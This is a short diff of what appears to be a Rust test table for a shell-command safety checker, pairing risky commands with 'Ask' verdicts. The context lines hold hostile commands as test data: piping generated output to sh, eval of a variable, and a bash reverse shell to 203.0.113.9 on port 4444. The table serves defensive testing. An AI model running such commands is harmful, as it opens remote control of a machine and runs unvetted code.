@@ -152,7 +152,7 @@ const OBJECTIONABLE: &[(&str, Verdict, &str)] = &[
     ),
     ("./generate-commands | sh", Verdict::Ask, "command.unknown-code"),
     ("eval \"$CMD\"", Verdict::Ask, "command.unknown-code"),
-    ("$(printf rm) -rf x", Verdict::Ask, "command.unknown-program"),
+    ("$(pick one) -rf x", Verdict::Ask, "command.unknown-program"),
     ("echo 'unfinished", Verdict::Ask, "command.unreadable"),
     (
         "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
